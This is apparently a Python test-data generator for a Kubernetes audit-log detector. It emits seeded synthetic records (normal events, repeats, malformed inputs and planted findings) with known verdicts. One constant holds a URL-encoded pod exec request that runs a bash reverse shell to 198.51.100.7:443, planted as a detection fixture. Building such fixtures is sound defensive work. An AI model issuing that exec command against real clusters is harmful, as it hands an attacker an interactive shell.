"""A seed goes in, records with their verdicts come out: events, findings, repeats, bad ones.

Separate because this is what the oracle trusts: what each record must become is known before any
worker has seen it.
"""

from __future__ import annotations

import json
from collections import deque
from dataclasses import dataclass
from datetime import UTC, datetime
from enum import StrEnum
from functools import cache
from pathlib import Path
from random import Random
from typing import Any, Final
from uuid import UUID

import orjson

CLUSTERS: Final = ("berlin", "lagos", "osaka", "quito")
CLUSTER_ADMIN: Final = "3fbe2304-8222-413a-9de6-2e62d4de7325"
REVERSE_SHELL: Final = "bb5ad643-b77e-400e-87c7-6d7765a55bd9"

_BASES: Final = Path(__file__).resolve().parents[2] / "detectors" / "rules" / "bases"
_SHELL: Final = (
    "/api/v1/namespaces/shop/pods/{}/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20"
    "%2Fdev%2Ftcp%2F198.51.100.7%2F443%200%3E%261&stdout=true"
)
_BAD: Final = (b"not json", b"[]", b'{"kind":"Secret"}', b"[" * 5_000, b"\xff\xfe", b"17")
_REPEATED_AFTER: Final = 200
"""Records of a cluster after which none is repeated: a tenth of a second, well within memory."""


class Verdict(StrEnum):
    """What a record must become."""

    EVENT = "event"
    FINDING = "finding"
    REPEAT = "repeat"
    BAD = "bad"


@dataclass(frozen=True, slots=True)
class Planted:
    """One record, its cluster and its verdict; ``rule`` is the id of the rule that must find it."""

    cluster: str
    value: bytes
    verdict: Verdict
    rule: str = ""


@dataclass(frozen=True, slots=True)
class Shares:
    """How many of a thousand records are not ordinary events."""

    findings: int = 4
    repeats: int = 10
    bad: int = 5


ORDINARY: Final = Shares()


class Planter:
    """Makes records; equal seeds and times give equal records."""

    def __init__(self, seed: int, shares: Shares = ORDINARY) -> None:
        self._random = Random(seed)
        self._shares = shares
        self._recent = {cluster: deque[bytes](maxlen=_REPEATED_AFTER) for cluster in CLUSTERS}
        self._number = 0

    def record(self, now: datetime) -> Planted:
        """Return the next record, of an act that happens now."""
        cluster = self._random.choice(CLUSTERS)
        recent, shares = self._recent[cluster], self._shares
        drawn = self._random.randrange(1_000)
        if drawn < shares.bad:
            return Planted(cluster, self._bad(), Verdict.BAD)
        if drawn < shares.bad + shares.repeats and recent:
            return Planted(cluster, self._random.choice(recent), Verdict.REPEAT)
        rule = ""
        if drawn < shares.bad + shares.repeats + shares.findings:
            rule = self._random.choice([CLUSTER_ADMIN, REVERSE_SHELL])
        value = self._event(rule, now)
        recent.append(value)
        return Planted(cluster, value, Verdict.FINDING if rule else Verdict.EVENT, rule)

    def _bad(self) -> bytes:
        self._number += 1
        return self._random.choice(_BAD) + str(self._number).encode() * self._random.choice([0, 1])

    def _event(self, rule: str, now: datetime) -> bytes:
        self._number += 1
        event = base(
            {CLUSTER_ADMIN: "clusterrolebinding-create", REVERSE_SHELL: "exec-spdy"}[rule]
            if rule
            else "pod-get-by-node"
        )
        name = f"n{self._number}"
        event["auditID"] = str(UUID(int=self._random.getrandbits(128)))
        event["requestReceivedTimestamp"] = event["stageTimestamp"] = time_text(now)
        event["objectRef"]["name"] = name
        if rule == REVERSE_SHELL:
            event["requestURI"] = _SHELL.format(name)
        if rule == CLUSTER_ADMIN:
            event["requestObject"]["metadata"]["name"] = name
        return orjson.dumps(event)


@cache
def _text_of(name: str) -> str:
    return (_BASES / f"{name}.json").read_text()


def base(name: str) -> dict[str, Any]:
    """Return a record that the rules' own cases are made of."""
    return json.loads(_text_of(name))  # type: ignore[no-any-return]  # an object


def time_text(time: datetime) -> str:
    """Return a time as the API server writes it."""
    return time.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
